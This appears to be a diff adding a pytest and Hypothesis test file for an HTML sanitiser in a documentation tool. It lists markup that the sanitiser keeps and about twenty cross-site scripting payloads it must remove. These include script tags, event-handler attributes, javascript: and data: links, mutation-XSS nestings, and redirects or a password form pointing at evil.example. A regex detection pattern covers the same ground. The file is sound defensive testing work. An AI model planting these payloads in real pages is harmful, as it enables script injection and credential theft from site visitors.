@@ -1,0 +1,103 @@
+"""What may stand in content, what may not, and what becomes of the rest."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from handrail.finish import sanitise
+
+KEPT = (
+    '<h2 id="login">Can it log in?<a class="headerlink" href="#login" title="Permanent link">¶</a></h2>',
+    '<table><thead><tr><th style="text-align:right">n</th></tr></thead></table>',
+    '<details class="note" open=""><summary>More</summary><p>x</p></details>',
+    '<input type="checkbox" disabled="" checked="">',
+    '<div class="highlight"><pre><span></span><code><span class="nv">x</span>\n</code></pre></div>',
+    '<div class="tabbed-set" data-tabs="1:2"><input checked="" id="__tabbed_1_1" type="radio"></div>',
+    '<div class="tabbed-labels"><label for="__tabbed_1_1">a</label></div>',
+    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
+    '<a href="tel:+441632960001">call</a> <a href="mailto:a@example.org">write</a>',
+    '<time datetime="2024-01-21T12:45:00Z" data-utc="12:45">13:45</time>',
+    '<div class="hr-figure" data-handrail="graph:x"></div>',
+    '<autoref identifier="handrail.model" optional="">model</autoref>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2 4.5 20l.7.7z"/></svg>',
+)
+
+ATTACKS = (
+    '<script>alert(1)</script>',
+    '<img src="x" onerror="alert(1)">',
+    '<svg onload="alert(1)"></svg>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/><a href="javascript:alert(1)">x</a></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path onclick="alert(1)" d="M0"/></svg>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<form action="https://evil.example/"><input name="password" type="password"></form>',
+    '<style>@import "https://evil.example/x.css"</style>',
+    '<p style="background: url(https://evil.example/x.png)">x</p>',
+    '<p onclick="alert(1)">x</p>',
+    '<object data="x.swf"></object><embed src="x.swf">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<p id="__config">{}</p>',
+    '<input id="__search" type="checkbox">',
+    '<!-- <script>alert(1)</script> -->',
+)
+DANGER = re.compile(
+    r'<(script|iframe|object|embed|base|meta|form|style|link|svg|math|template|noscript)\b'
+    r'|\son\w+\s*=|javascript:|data:text|evil\.example[^<]*["\')]|type="password"|id="__(config|search)"|<!--',
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize('html', KEPT)
+def test_what_pages_need_is_kept(html: str) -> None:
+    assert sanitise(html) == html
+
+
+@pytest.mark.parametrize('html', ATTACKS)
+def test_attacks_are_taken_out(html: str) -> None:
+    assert not DANGER.search(sanitise(html)), sanitise(html)
+
+
+@pytest.mark.parametrize('html', ATTACKS)
+def test_the_text_around_an_attack_stays(html: str) -> None:
+    assert sanitise(f'<p>before</p>{html}<p>after</p>').count('<p>before</p>') == 1
+
+
+def test_an_icon_with_anything_else_in_it_is_no_icon() -> None:
+    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0"/><script>x</script></svg>'
+    assert '<svg' not in sanitise(icon)
+
+
+def test_numbers_of_icons_that_an_author_writes_draw_nothing_new() -> None:
+    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0"/></svg>'
+    assert sanitise(f'<i data-handrail-icon="7"></i>{icon}') == f'<i data-handrail-icon="7"></i>{icon}'
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from([*KEPT, *ATTACKS, '<', '"', "'", '>', '&lt;', '</p>', ' onload=', 'x']), max_size=8
+    )
+)
+def test_no_mixture_lets_an_attack_through(parts: list[str]) -> None:
+    result = re.sub(
+        r'<svg xmlns="[^"]*" viewBox="[^"]*">(<path d="[^"]*"/>)+</svg>', '', sanitise(''.join(parts))
+    )
+    tags = ''.join(re.findall(r'<[^>]*>', result))
+    assert not DANGER.search(tags), result
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(max_size=200))
+def test_doing_it_twice_changes_nothing(text: str) -> None:
+    once = sanitise(text)
+    assert sanitise(once) == once
